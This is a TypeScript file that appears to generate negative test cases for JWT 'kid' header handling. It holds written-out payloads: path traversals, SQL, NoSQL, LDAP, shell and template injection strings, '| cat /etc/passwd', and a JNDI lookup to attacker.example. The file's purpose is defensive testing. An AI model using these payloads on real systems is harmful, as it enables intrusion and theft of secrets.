/** Attacks by `kid` on its lookup in a file system, a database, a shell or an object (RFC 8725 §3.10). */

import { onHeader, onToken, type TokenMaterial } from '../alterations/alteration.js';
import { signAsAttacker } from '../alterations/key.js';
import { serialise } from '../issuer/compact.js';
import { signBytes } from '../issuer/signing-key.js';
import { confuse, STRING_NEAR_MISSES } from './values/near-misses.js';
import { attacksOf, named, pairs, type AttackClass } from './row.js';

const TRAVERSALS = ['/', '\\', '%2f', '%252f', '%c0%af', '..%00/'].flatMap((slash) => [
  `..${slash}..${slash}..${slash}dev${slash}null`,
  `${slash}dev${slash}null`,
  `es256-1${slash}..${slash}attacker`,
]);

const PLACES = [
  ...[
    '.',
    '..',
    '/',
    '\\',
    '~',
    'C:\\Windows\\win.ini',
    '/proc/self/environ',
    '/dev/zero',
    'file:///dev/null',
  ],
  ...[
    'https://attacker.example/key',
    '\\\\attacker.example\\key',
    'data:,secret',
    'php://filter/resource=key',
  ],
];

const INJECTIONS = [
  ...[
    "' OR '1'='1",
    "' OR 1=1 --",
    "x' UNION SELECT 'secret' --",
    '"; DROP TABLE keys; --',
    "1'; WAITFOR DELAY '0:0:5'--",
  ],
  ...[
    '{"$ne":null}',
    '*)(uid=*))(|(uid=*',
    "' or ''='",
    'x|id',
    'x;id',
    '$(id)',
    '`id`',
    '&& id',
    '| cat /etc/passwd',
  ],
  ...[
    '${7*7}',
    '{{7*7}}',
    '<%= 7*7 %>',
    '${jndi:ldap://attacker.example/a}',
    '<script>alert(1)</script>',
    '<!ENTITY x>',
  ],
  ...['x\r\nSet-Cookie: a=b', 'x\nGET / HTTP/1.1', '%s%n%x', '\x1b[31m', '*', '?', '.*', '^.*$', '%', '_'],
];

const WORDS = [
  ...[
    '',
    ' ',
    '0',
    '1',
    '-1',
    'null',
    'undefined',
    'NaN',
    'true',
    'false',
    'default',
    'none',
    '[object Object]',
  ],
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'valueOf',
    'hasOwnProperty',
    '__defineGetter__',
    'isPrototypeOf',
  ],
  ...[
    'length',
    'size',
    'get',
    'keys',
    'then',
    '\0',
    '\u202e',
    '\u{1f511}',
    '\u00e9',
    'e\u0301',
    '\u043a\u043b\u044e\u0447',
    '\uffff',
  ],
];

const VALUES: Readonly<Record<string, (kid: string) => string>> = {
  ...Object.fromEntries(
    Object.entries(named([...TRAVERSALS, ...PLACES, ...INJECTIONS, ...WORDS])).map(([label, value]) => [
      label,
      () => value,
    ]),
  ),
  ...Object.fromEntries(
    Object.entries(STRING_NEAR_MISSES).map(([label, change]) => [
      `near-${label}`,
      (kid) => confuse(kid, change),
    ]),
  ),
  long: () => 'k'.repeat(3000),
  'long-unicode': () => '\u{1f511}'.repeat(600),
  'of-encryption-key-in-capitals': () => 'ENCRYPTION',
  'of-next-generation': (kid) => `${kid}0`,
};

const SIGNERS: Readonly<Record<string, (material: TokenMaterial, kid: string) => string | Promise<string>>> =
  {
    'by-issuer': ({ issuer, claims }, kid) => issuer.sign({ ...issuer.header(), kid }, claims),
    'by-attacker': (material, kid) => signAsAttacker(material, () => ({ kid })),
  };

const TYPES: Readonly<Record<string, (kid: string) => unknown>> = {
  null: () => null,
  true: () => true,
  false: () => false,
  zero: () => 0,
  number: () => 1,
  fraction: () => 0.5,
  'empty-list': () => [],
  'empty-object': () => ({}),
  'list-of-right-one': (kid) => [kid],
  'list-of-two': (kid) => [kid, 'attacker'],
  'object-of-right-one': (kid) => ({ kid }),
  'database-not-equal': () => ({ $ne: '' }),
  'database-greater': () => ({ $gt: '' }),
  'database-pattern': () => ({ $regex: '.*' }),
  'with-to-string': (kid) => ({ toString: kid }),
};

/** Every kind of `kid` that does not name a signing key of the issuer, and of values that are not a `kid`. */
export const KID: AttackClass = {
  name: 'kid',
  summary: 'kid names a file, a statement, a member of an object, or a key of another owner.',
  attacks: () => [
    ...attacksOf('kid', pairs(VALUES, SIGNERS), ([value, sign], label) => ({
      summary: `kid is ${label.slice(0, label.lastIndexOf('-by-'))}, signed ${label.slice(label.lastIndexOf('by-'))}.`,
      code: 'key.unknown',
      apply: onToken((_, material) => sign(material, value(material.issuer.header().kid))),
    })),
    ...attacksOf('kid/type', TYPES, (value, label) => ({
      summary: `kid is ${label}.`,
      code: 'format.malformed',
      apply: onHeader((header) => ({ ...header, kid: value(String(header['kid'])) })),
    })),
    ...attacksOf(
      'kid/half-surrogate',
      { high: '\\ud83d', low: '\\ude00', reversed: '\\ude00\\ud83d' },
      (escaped) => ({
        summary: 'kid holds half of a surrogate pair.',
        code: 'format.malformed',
        apply: onHeader((header) =>
          JSON.stringify({ ...header, kid: '' }).replace('"kid":""', () => `"kid":"${escaped}"`),
        ),
      }),
    ),
    ...attacksOf(
      'kid/of-another-issuer',
      { 'its-key': true, 'its-key-under-its-name': false },
      (keepsIss, label) => ({
        summary: `The key of another issuer that the policy accepts, with ${label}.`,
        code: 'signature.invalid',
        only: 'partner',
        apply: onToken((_, { issuer, claims, partner = issuer }) => {
          const { alg } = issuer.header();
          // All test issuers have the same key ids, so that this kid is known to both.
          if (keepsIss) return partner.sign(partner.header(alg), claims, alg);
          return issuer.sign(issuer.header(), { ...claims, iss: partner.url });
        }),
      }),
    ),
    ...attacksOf('kid/of-encryption-key', { 'its-key': true, 'the-signing-key': false }, (byIt, label) => ({
      summary: `kid names the key that is published for encryption, signed with ${label}.`,
      code: 'key.unsuitable',
      apply: onToken((_, { issuer, claims }) => {
        const { keyId: kid, privateKey, algorithm } = issuer.encryptionKey();
        const header = { ...issuer.header(), kid };
        if (!byIt) return issuer.sign(header, claims);
        return serialise(header, claims, (bytes) => signBytes(algorithm, privateKey, bytes));
      }),
    })),
  ],
};
